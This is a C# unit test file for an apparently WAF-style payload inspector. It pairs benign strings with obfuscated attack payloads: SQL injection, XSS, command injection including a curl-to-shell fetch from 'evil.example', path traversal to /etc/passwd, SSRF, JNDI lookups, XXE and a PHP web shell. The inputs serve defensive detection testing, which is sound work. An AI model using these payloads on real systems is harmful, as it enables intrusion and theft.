@@ -1,0 +1,290 @@
+using System.Text;
+using ApiGuard.Inspection;
+
+namespace ApiGuard.Tests.Inspection.Engine;
+
+/// <summary>Hand-written hard benign values and obfuscated attack variants (none taken from the corpus).</summary>
+public sealed class PayloadInspectorTests
+{
+    private readonly PayloadInspector _inspector = new();
+
+    public static TheoryData<string> HardBenign() =>
+    [
+        "O'Brien",
+        "Patrick O'Brien-Smith",
+        "d'Artagnan and the three musketeers",
+        "Please select one item from the list below",
+        "Select the columns you want, then drop the rest.",
+        "The union of two sets contains every element of either.",
+        "Where were you when the union select committee met?",
+        "I'll update the order by Friday -- promise!",
+        "x < 10 and y > 3",
+        "5 < 6, so we're fine",
+        "Preferences > Privacy > Cookies",
+        "Use the <b>bold</b> tag for emphasis",
+        "He said \"drop it\" and left; everyone laughed.",
+        "Tom & Jerry; Ben & Jerry's",
+        "AT&T; Verizon; T-Mobile",
+        "https://example.com/search?q=shoes&sort=price_desc&page=2",
+        "https://api.example.com/v1/orders?status=open&limit=50#top",
+        "C:\\Users\\alice\\Documents\\report.docx",
+        "/var/www/html/index.html",
+        "src/components/Button.tsx",
+        "{\"name\":\"Alice\",\"tags\":[\"a\",\"b\"],\"age\":31}",
+        "SGVsbG8sIFdvcmxkISBUaGlzIGlzIGEgcGxhaW4gbWVzc2FnZS4=",
+        "dGhlIHF1aWNrIGJyb3duIGZveA==",
+        "## Release notes\n- Fixed the `id` field\n- Added [docs](https://example.com/docs)",
+        "Run `npm test` before you push.",
+        "Costs $5 (about €4.60) per month",
+        "50% off -- today only!",
+        "Meeting at 10:30; bring the Q3 numbers (and coffee).",
+        "email: o'reilly@example.com",
+        "The script ran for 3 hours (longer than expected)",
+        "if you like it then you should have put a ring on it",
+        "for each item in the cart, apply the discount",
+        "1 or 2 tablespoons of sugar",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+        "rock 'n' roll",
+        "It's 5 o'clock somewhere",
+        "width=100&height=200",
+        "2024-01-31T12:00:00Z",
+        "user_12345",
+        "Ação rápida — não é?",
+        "日本語のテキスト",
+    ];
+
+    public static TheoryData<string, InspectionCategory> Attacks() => new()
+    {
+        { "1' OR '1'='1", InspectionCategory.Sqli },
+        { "admin'--", InspectionCategory.Sqli },
+        { "1 UNION/**/SELECT username, password FROM users", InspectionCategory.Sqli },
+        { "1%2527%2520OR%25201%253D1--", InspectionCategory.Sqli },
+        { "1;WAITFOR DELAY '0:0:5'--", InspectionCategory.Sqli },
+        { "x' AND extractvalue(1,concat(0x7e,version()))-- ", InspectionCategory.Sqli },
+        { "１ ＵＮＩＯＮ ＳＥＬＥＣＴ １,２", InspectionCategory.Sqli },
+        { "1/*!50000union*/ select 1,2", InspectionCategory.Sqli },
+        { "'; DROP TABLE users; --", InspectionCategory.Sqli },
+        { "<script>alert(1)</script>", InspectionCategory.Xss },
+        { "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", InspectionCategory.Xss },
+        { "&lt;svg onload=alert(1)&gt;", InspectionCategory.Xss },
+        { "&#x3C;iframe src=javascript:alert(1)&#x3E;", InspectionCategory.Xss },
+        { "java&#x09;script:alert(document.domain)", InspectionCategory.Xss },
+        { "\" autofocus onfocus=\"alert(1)", InspectionCategory.Xss },
+        { "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", InspectionCategory.Xss },
+        { "%u003Cscript%u003Ealert(1)%u003C/script%u003E", InspectionCategory.Xss },
+        { "<div style=\"width: expression(alert(1))\">", InspectionCategory.Xss },
+        { "; cat /etc/passwd", InspectionCategory.Cmdi },
+        { "$(curl http://evil.example/x.sh|sh)", InspectionCategory.Cmdi },
+        { "`whoami`", InspectionCategory.Cmdi },
+        { "a;w'h'o'a'm'i", InspectionCategory.Cmdi },
+        { "x|cat${IFS}/etc/passwd", InspectionCategory.Cmdi },
+        { "& powershell -enc SQBFAFgA", InspectionCategory.Cmdi },
+        { "../../../../etc/passwd", InspectionCategory.Lfi },
+        { "..%252f..%252f..%252fwindows%252fwin.ini", InspectionCategory.Lfi },
+        { "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", InspectionCategory.Lfi },
+        { "http://169.254.169.254/latest/meta-data/", InspectionCategory.Ssrf },
+        { "http://2130706433/admin", InspectionCategory.Ssrf },
+        { "http://0x7f.0.0.1:8080/", InspectionCategory.Ssrf },
+        { "http://[::ffff:127.0.0.1]/", InspectionCategory.Ssrf },
+        { "gopher://127.0.0.1:6379/_FLUSHALL", InspectionCategory.Ssrf },
+        { "{{ ''.__class__.__mro__[1].__subclasses__() }}", InspectionCategory.Ssti },
+        { "${${lower:j}${upper:n}di:ldap://x.example/a}", InspectionCategory.Ssti },
+        { "${${env:NOPE:-j}ndi${env:NOPE:-:}rmi://x.example/a}", InspectionCategory.Ssti },
+        { "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", InspectionCategory.Ssti },
+        { "<%= 7*7 %>", InspectionCategory.Ssti },
+        { "*)(uid=*))(|(uid=*", InspectionCategory.Ldapi },
+        { "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", InspectionCategory.Xxe },
+        { "value\r\nSet-Cookie: session=attacker", InspectionCategory.Crlf },
+        { "value%0d%0aLocation:%20http://evil.example", InspectionCategory.Crlf },
+        { "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", InspectionCategory.Nosqli },
+        { "<?php system($_GET['c']); ?>", InspectionCategory.Code },
+        { "{\"__proto__\": {\"isAdmin\": true}}", InspectionCategory.Code },
+        { "eyJfX3Byb3RvX18iOiB7ImlzQWRtaW4iOiB0cnVlfX0=", InspectionCategory.Code },
+    };
+
+    [Theory]
+    [MemberData(nameof(HardBenign))]
+    public void Inspect_HardBenignValue_IsNotAnAttackAtParanoia1(string value)
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
+        Assert.False(PayloadInspector.IsAttack(verdict), $"score {verdict.Score}, rules {Rules(findings[..verdict.FindingCount])}");
+    }
+
+    [Theory]
+    [MemberData(nameof(Attacks))]
+    public void Inspect_ObfuscatedAttack_IsDetectedWithItsCategory(string value, InspectionCategory category)
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[16];
+        var verdict = _inspector.Inspect(Encoding.UTF8.GetBytes(value), new InspectionSettings(), findings);
+        Assert.True(PayloadInspector.IsAttack(verdict), $"score {verdict.Score} for {value}");
+        var found = findings[..verdict.FindingCount].ToArray();
+        Assert.Contains(found, f => f.Category == category);
+    }
+
+    [Fact]
+    public void Inspect_QueryValueWithPlusAndDoubleEncoding_DecodesPlusAsSpace()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect("1%27+or+%271%27%3D%271".AsSpan(), new InspectionSettings(ValueSource.Query), findings);
+        Assert.True(PayloadInspector.IsAttack(verdict));
+        Assert.True((verdict.Layers & DecodingLayers.PlusAsSpace) != 0);
+        Assert.True((verdict.Layers & DecodingLayers.Url) != 0);
+    }
+
+    [Fact]
+    public void Inspect_TripleEncodedValue_ReportsLayersAndDoubleEncoding()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect("%25253Cscript%25253Ealert(1)".AsSpan(), new InspectionSettings(ParanoiaLevel: 2), findings);
+        Assert.True((verdict.Layers & DecodingLayers.DoubleUrl) != 0);
+        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.Category == InspectionCategory.Xss);
+        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.RuleId == 920140);
+    }
+
+    [Fact]
+    public void Inspect_ExcessivelyNestedEncoding_IsAFinding()
+    {
+        var value = "a";
+        for (var i = 0; i < 6; i++)
+        {
+            value = Uri.EscapeDataString(value + "%");
+        }
+
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
+        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.RuleId == 920130 && f.Category == InspectionCategory.Encoding);
+    }
+
+    [Fact]
+    public void Inspect_InvalidAndOverlongUtf8_AreFlaggedAsEncoding()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var invalid = _inspector.Inspect(new byte[] { (byte)'a', 0xFF, 0xFE, (byte)'b' }, new InspectionSettings(), findings);
+        Assert.Contains(findings[..invalid.FindingCount].ToArray(), f => f.RuleId == 920100);
+
+        var overlong = _inspector.Inspect(new byte[] { 0xC0, 0xAE, 0xC0, 0xAE, (byte)'/', 0xC0, 0xAE, 0xC0, 0xAE, (byte)'/', (byte)'e', (byte)'t', (byte)'c', (byte)'/', (byte)'p', (byte)'a', (byte)'s', (byte)'s', (byte)'w', (byte)'d' }, new InspectionSettings(), findings);
+        var found = findings[..overlong.FindingCount].ToArray();
+        Assert.Contains(found, f => f.RuleId == 920110);
+        Assert.Contains(found, f => f.Category == InspectionCategory.Lfi);
+    }
+
+    [Fact]
+    public void Inspect_NulByte_IsFlaggedButAloneNotAnAttack()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect("file\0name".AsSpan(), new InspectionSettings(), findings);
+        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.RuleId == 920120);
+        Assert.False(PayloadInspector.IsAttack(verdict));
+    }
+
+    [Fact]
+    public void Inspect_NoSqlOperatorAsJsonPropertyName_IsDetected()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect("$where".AsSpan(), new InspectionSettings(ValueSource.JsonPropertyName), findings);
+        Assert.Contains(findings[..verdict.FindingCount].ToArray(), f => f.Category == InspectionCategory.Nosqli);
+        var name = _inspector.Inspect("user[$ne]".AsSpan(), new InspectionSettings(ValueSource.Query), findings);
+        Assert.True(PayloadInspector.IsAttack(name));
+    }
+
+    [Fact]
+    public void Inspect_CrlfInHeaderValue_IsAlwaysAFinding()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var header = _inspector.Inspect("abc\r\nfoo".AsSpan(), new InspectionSettings(ValueSource.Header), findings);
+        Assert.Contains(findings[..header.FindingCount].ToArray(), f => f.Category == InspectionCategory.Crlf);
+        var text = _inspector.Inspect("line one\nline two".AsSpan(), new InspectionSettings(ValueSource.JsonValue), findings);
+        Assert.False(text.HasFindings);
+    }
+
+    [Fact]
+    public void Inspect_FindingsSpanTooSmall_ScoreStillCountsEveryFinding()
+    {
+        const string value = "<script>alert(document.cookie)</script>' OR 1=1-- ; cat /etc/passwd";
+        Span<InspectionFinding> many = stackalloc InspectionFinding[32];
+        var full = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), many);
+        var none = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), []);
+        Assert.True(full.FindingCount >= 3);
+        Assert.Equal(0, none.FindingCount);
+        Assert.Equal(full.Score, none.Score);
+    }
+
+    [Fact]
+    public void Inspect_UndecodedValue_ReportsExactOffsets()
+    {
+        const string value = "hello <script>alert(1)</script>";
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var verdict = _inspector.Inspect(value.AsSpan(), new InspectionSettings(), findings);
+        var tag = findings[..verdict.FindingCount].ToArray().First(f => f.RuleId == 941110);
+        Assert.Equal(6, tag.Offset);
+        Assert.Equal(DecodingLayers.None, tag.Layers);
+    }
+
+    [Fact]
+    public void Inspect_ParanoiaLevel_GatesHigherLevelRules()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        const string value = "see <b>this</b>";
+        var pl1 = _inspector.Inspect(value.AsSpan(), new InspectionSettings(ParanoiaLevel: 1), findings);
+        var pl3 = _inspector.Inspect(value.AsSpan(), new InspectionSettings(ParanoiaLevel: 3), findings);
+        Assert.False(pl1.HasFindings);
+        Assert.True(pl3.HasFindings);
+        Assert.All(findings[..pl3.FindingCount].ToArray(), f => Assert.True(f.ParanoiaLevel <= 3));
+    }
+
+    [Fact]
+    public void Inspect_IdentifierField_OnlyAllowsIdentifierCharacters()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var ok = _inspector.Inspect("order-42_a.b:c".AsSpan(), new InspectionSettings(FieldType: FieldType.Identifier), findings);
+        var bad = _inspector.Inspect("42 OR 1".AsSpan(), new InspectionSettings(FieldType: FieldType.Identifier), findings);
+        Assert.False(ok.HasFindings);
+        Assert.True(PayloadInspector.IsAttack(bad));
+        Assert.Equal(920200, findings[0].RuleId);
+    }
+
+    [Fact]
+    public void Inspect_Base64Field_DecodesAndFlagsNonBase64()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes("<script>alert(1)</script>"));
+        var attack = _inspector.Inspect(encoded.AsSpan(), new InspectionSettings(FieldType: FieldType.Base64), findings);
+        Assert.True(PayloadInspector.IsAttack(attack));
+        Assert.True((attack.Layers & DecodingLayers.Base64) != 0);
+
+        var notBase64 = _inspector.Inspect("not base64 at all!".AsSpan(), new InspectionSettings(FieldType: FieldType.Base64), findings);
+        Assert.Contains(findings[..notBase64.FindingCount].ToArray(), f => f.RuleId == 920200);
+
+        var plain = _inspector.Inspect(Convert.ToBase64String(Encoding.UTF8.GetBytes("just a note")).AsSpan(), new InspectionSettings(FieldType: FieldType.Base64), findings);
+        Assert.False(plain.HasFindings);
+    }
+
+    [Fact]
+    public void Inspect_UrlField_StillFindsSsrfButNotSqlProse()
+    {
+        Span<InspectionFinding> findings = stackalloc InspectionFinding[8];
+        var ssrf = _inspector.Inspect("http://localhost:8080/admin".AsSpan(), new InspectionSettings(FieldType: FieldType.Url), findings);
+        Assert.True(PayloadInspector.IsAttack(ssrf));
+        var url = _inspector.Inspect("https://example.com/?q=1' or '1'='1".AsSpan(), new InspectionSettings(FieldType: FieldType.Url), findings);
+        Assert.False(url.HasFindings);
+    }
+
+    [Fact]
+    public void Inspect_EmptyValue_HasNoFindings()
+    {
+        Assert.False(_inspector.Inspect(ReadOnlySpan<char>.Empty, new InspectionSettings(), []).HasFindings);
+        Assert.False(_inspector.Inspect(ReadOnlySpan<byte>.Empty, new InspectionSettings(), []).HasFindings);
+    }
+
+    private static string Rules(ReadOnlySpan<InspectionFinding> findings)
+    {
+        var sb = new StringBuilder();
+        foreach (var f in findings)
+        {
+            sb.Append(f.RuleId).Append(' ');
+        }
+
+        return sb.ToString();
+    }
+}
